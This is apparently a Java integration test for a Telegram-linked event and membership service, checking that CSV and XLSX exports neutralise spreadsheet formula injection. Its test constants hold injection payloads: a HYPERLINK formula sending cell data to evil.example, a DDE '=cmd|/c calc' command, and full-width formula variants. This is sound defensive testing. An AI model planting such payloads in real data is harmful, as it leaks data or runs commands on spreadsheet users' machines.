package io.reunion;

import static io.reunion.Soon.soon;
import static io.reunion.TelegramBotApi.parse;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import io.reunion.redis.RedisServer;
import java.io.IOException;
import java.io.InputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/** Every table that is handed out, with people, groups and guests in it that are called as formulas are. */
class ExportsIT {
  @RegisterExtension
  static final RedisServer server = new RedisServer();

  private static final String PERSON = "=HYPERLINK(\"http://evil.example/?\"&A1)";
  private static final String GROUP = "\t=cmd|'/c calc'!A0";
  private static final String ANSWER = "＋WEBSERVICE(1)";
  private static final String CITY = "｜＝1,@x";

  @TempDir
  Path directory;

  private TelegramBotApi telegram;
  private TestService service;

  @BeforeEach
  void open() {
    telegram = new TelegramBotApi();
    service = TestService.start(
        directory,
        server.uri(),
        "association: {language: en}\nredis: {accept: [appendfsync-no]}\n"
            + "announcements: {approvalThreshold: 0}\n",
        telegram.config());
  }

  @AfterEach
  void close() {
    service.close();
    telegram.close();
  }

  private JsonNode api(String path, String body) {
    HttpResponse<String> answer = service.api("POST", path, body);
    assertThat(answer.statusCode()).as(answer.body()).isBetween(200, 202);
    return parse(answer.body());
  }

  private void groupAndPerson() {
    JsonNode added = TelegramBotApi.added(-1001);
    ((ObjectNode) added.path("my_chat_member").path("chat")).put("title", GROUP);
    assertThat(TelegramBotApi.post(service, added).statusCode()).isEqualTo(200);
    soon().until(() -> service.api("GET", "/chats", "").body().contains("telegram/main/-1001"));
    api(
        "/events",
        "{\"id\":\"gala\",\"title\":\"=Gala\",\"startsAt\":\"2099-12-12T18:00:00+08:00\",\"chats\":[\"telegram/main/-1001\"]}");
    ObjectNode said = TelegramBotApi.message(
        -1001, 11, "/rsvp gala yes +1 " + ANSWER, Instant.now().getEpochSecond());
    ((ObjectNode) said.path("message").path("from")).put("first_name", PERSON);
    assertThat(TelegramBotApi.post(service, said).statusCode()).isEqualTo(200);
    soon().until(() -> service.api("GET", "/events/gala/rsvps", "").body().contains("HYPERLINK"));
  }

  private String announced() {
    String id = api("/announcements", "{\"text\":{\"en\":\"Hi\"},\"audience\":{\"all\":true}}")
        .path("id")
        .asText();
    soon().until(() -> service.api("GET", "/announcements/" + id, "").body().contains("DONE"));
    return id;
  }

  private byte[] fetched(String path) throws IOException, InterruptedException {
    HttpResponse<byte[]> answer = HttpClient.newHttpClient()
        .send(
            HttpRequest.newBuilder(URI.create(service.url() + "/api/v1" + path))
                .header("Authorization", "Bearer " + TestService.TOKEN)
                .build(),
            HttpResponse.BodyHandlers.ofByteArray());
    assertThat(answer.statusCode()).as(path).isEqualTo(200);
    return answer.body();
  }

  /** No cell but what is quoted begins as a formula does, by a rule of this test's own. */
  private static void isHarmless(byte[] csv, String held) throws IOException {
    String text = new String(csv, StandardCharsets.UTF_8);
    assertThat(text).startsWith("\uFEFF").contains(held);
    List<String> cells = new ArrayList<>();
    try (CsvReader<CsvRecord> rows = CsvReader.builder().ofCsvRecord(text.substring(1))) {
      rows.forEach(row -> cells.addAll(row.getFields()));
    }
    assertThat(cells).anyMatch(cell -> cell.startsWith("'"));
    for (String cell : cells) {
      assertThat(cell.strip())
          .doesNotStartWith("=")
          .doesNotStartWith("+")
          .doesNotStartWith("-")
          .doesNotStartWith("@")
          .doesNotStartWith("|")
          .doesNotStartWith("＝")
          .doesNotStartWith("＋");
    }
  }

  private void hasNoFormula(byte[] xlsx, String held) throws IOException {
    StringBuilder all = new StringBuilder();
    try (ZipFile zip =
        new ZipFile(Files.write(directory.resolve("table.xlsx"), xlsx).toFile())) {
      for (ZipEntry entry : Collections.list(zip.entries())) {
        assertThat(entry.getName()).doesNotContain("externalLink").doesNotContain("vba");
        try (InputStream part = zip.getInputStream(entry)) {
          all.append(new String(part.readAllBytes(), StandardCharsets.UTF_8));
        }
      }
    }
    assertThat(all.toString())
        .contains(held)
        .doesNotContain("<f>")
        .doesNotContain("<f ")
        .doesNotContain("<hyperlink");
  }

  @Test
  void noTableThatIsHandedOutHasAFormula() throws Exception {
    groupAndPerson();
    isHarmless(fetched("/events/gala/rsvps?format=csv"), "HYPERLINK");
    hasNoFormula(fetched("/events/gala/rsvps?format=xlsx"), "HYPERLINK");
    isHarmless(fetched("/announcements/" + announced() + "/deliveries?format=csv"), "calc");
    api("/members/import", "姓名,城市,consent\n王五,\"" + CITY + "\",group\n李四,－深圳,group\n");
    soon().until(() -> service.api("GET", "/members", "").body().contains("王五"));
    isHarmless(fetched("/members/export"), "王五");
    hasNoFormula(fetched("/members/export?format=xlsx"), "王五");
  }

  /** A table that is added must be opened here, too. */
  @Test
  void thereAreNoOtherTables() {
    OpenApi document =
        OpenApi.parse(service.send("GET", "/api/openapi.yaml", "").body());
    Set<String> tables = new TreeSet<>();
    for (String operation : document.operations()) {
      document
          .operation(operation)
          .path("responses")
          .forEach(answer -> answer.path("content").fieldNames().forEachRemaining(type -> {
            if (type.contains("csv") || type.contains("sheet")) {
              tables.add(operation);
            }
          }));
    }
    assertThat(tables)
        .containsExactly(
            "GET /announcements/{id}/deliveries", "GET /events/{id}/rsvps", "GET /members/export");
  }
}
